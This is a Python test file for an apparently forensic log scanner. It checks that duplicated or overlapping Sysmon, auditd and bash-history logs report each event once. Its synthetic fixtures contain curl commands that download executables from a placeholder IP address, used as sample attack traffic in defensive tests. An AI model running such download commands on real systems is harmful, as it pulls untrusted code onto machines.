"""Two copies of a log tell of each event once; equal events that no number identifies stay two."""

from __future__ import annotations

from collections.abc import Sequence
from pathlib import Path

import pytest

from evtx_writer import Entry, evtx
from log_writer import Audit
from tidewaiter.correlation.glimpse import Glimpse, glimpse_of
from tidewaiter.engines.local import ScanResult, scan
from tidewaiter.pipeline.copies import REASON, Copies
from tidewaiter.schema.account import Account
from tidewaiter.schema.event import Event, EventKind


def started(number: int, time: str, line: str) -> Entry:
    data = {"UtcTime": time.replace("T", " ")[:19] + ".000", "ProcessId": str(4000 + number), "CommandLine": line}
    data |= {"Image": "C:\\Windows\\System32\\curl.exe", "ProcessGuid": f"{{0a1b2c3d-0001-6958-0000-{number:012x}}}"}
    return Entry("Microsoft-Windows-Sysmon", 1, number, data, time, channel="Microsoft-Windows-Sysmon/Operational")


def entries(count: int) -> list[Entry]:
    return [
        started(place + 1, f"2026-03-01T10:00:{place:02}+00:00", f"curl -o C:\\in\\{place}.exe http://198.51.100.7/{place}.exe")
        for place in range(count)
    ]


def ids(result: ScanResult) -> list[str]:
    return [transfer.id for transfer in result.transfers()]


def duplicates(result: ScanResult) -> list[int]:
    assert all(account.balanced for account in result.accounts)
    return [account.skipped.get(REASON, 0) for account in result.accounts]


def test_a_backup_beside_its_log_adds_nothing(tmp_path: Path) -> None:
    log = tmp_path / "a.evtx"
    log.write_bytes(evtx(entries(5)))
    with scan([str(log)]) as alone:
        expected = list(alone.transfers())
        assert len(expected) == 5 and duplicates(alone) == [0]
    (tmp_path / "b.evtx").write_bytes(log.read_bytes())
    with scan([str(tmp_path)]) as both:
        assert list(both.transfers()) == expected, "as one copy gives, with the evidence of the first"
        assert duplicates(both) == [0, 5]
        assert both.accounts[1].read == both.accounts[0].read


def audit(lines: Sequence[int]) -> str:
    """A log with some of six downloads."""
    log = Audit("build7")
    for place in range(6):
        if place in lines:
            log.serial = 100 + place
            log.run(place, 600 + place, "curl", "-o", f"/srv/{place}", f"http://198.51.100.7/{place}")
    return log.text()


def test_rotated_parts_that_overlap_tell_of_each_event_once(tmp_path: Path) -> None:
    whole = tmp_path / "whole.log"
    whole.write_text(audit(range(6)), encoding="utf-8")
    with scan([str(whole)]) as one:
        expected = ids(one)
    parts = tmp_path / "parts"
    parts.mkdir()
    (parts / "audit.log").write_text(audit(range(2, 6)), encoding="utf-8")
    (parts / "audit.log.1").write_text(audit(range(4)), encoding="utf-8")
    with scan([str(parts)]) as found:
        assert ids(found) == expected and len(expected) == 6
        assert duplicates(found) == [0, 2]


def test_what_differs_in_anything_stays_two(tmp_path: Path) -> None:
    first = entries(3)
    second = [Entry(**vars(entry)) for entry in first]
    second[0].record_id += 100
    second[1].data = {**second[1].data, "ProcessId": "77"}
    second[2].computer = "ws02.example.com"
    (tmp_path / "a.evtx").write_bytes(evtx(first))
    (tmp_path / "b.evtx").write_bytes(evtx(second))
    with scan([str(tmp_path)]) as found:
        assert duplicates(found) == [0, 0]
        assert len(ids(found)) == 6


def test_equal_lines_without_a_number_stay_two(tmp_path: Path) -> None:
    line = "#1772359200\ncurl -o /srv/a http://198.51.100.7/a\n"
    for name in ("a", "b"):
        (tmp_path / name).mkdir()
        (tmp_path / name / ".bash_history").write_text(line, encoding="utf-8")
    with scan([str(tmp_path)]) as found:
        assert duplicates(found) == [0, 0]
        assert len(ids(found)) == 2


def numbered(log_file: str, time: int, pid: int, serial: int | None) -> Glimpse:
    return glimpse_of(
        Event(
            kind=EventKind.PROCESS_START,
            time=time,
            log_source="linux_auditd",
            log_file=log_file,
            record=f"{log_file}{time}{pid}",
            host="build7",
            pid=pid,
            extra=None if serial is None else {"serial": serial},
        ),
        (),
    )


def accounts(*names: str) -> list[Account]:
    made = [Account(log_file=name, read=99, parsed=99, first=1, last=9) for name in names]
    for account in made:
        account.made("linux_auditd", ["process_start"])
    return made


ROWS = [
    *(numbered(name, time, pid, 10 * time + pid) for time in (1, 2) for name in "abc" for pid in (1, 2)),
    *(numbered(name, 3, 1, None) for name in "abc"),
    numbered("a", 4, 1, 41),
    numbered("a", 4, 1, 41),
]


@pytest.mark.parametrize("size", [1, 2, 3, 5, 8, 100])
def test_where_the_rows_are_cut_changes_nothing(size: int) -> None:
    given = accounts("a", "b", "c")
    copies = Copies(given)
    batches = [ROWS[start : start + size] for start in range(0, len(ROWS), size)]
    left = [row for batch in copies.left_out(batches) for row in batch]

    assert left == [*ROWS[:2], *ROWS[6:8], *ROWS[12:]]
    assert [account.skipped.get(REASON, 0) for account in given] == [0, 4, 4]
    assert all(account.balanced for account in given)


@pytest.mark.parametrize(
    ("spans", "possible"),
    [([(1, 5), (5, 9)], True), ([(1, 5), (6, 9)], False), ([(1, 9), (2, 3), (4, 5)], True), ([(1, 9)], False), ([], False)],
)
def test_rows_are_compared_only_where_logs_overlap(spans: list[tuple[int, int]], possible: bool) -> None:
    given = accounts(*"abc"[: len(spans)])
    for account, span in zip(given, spans, strict=True):
        account.first, account.last = span
    assert Copies(given).possible is possible
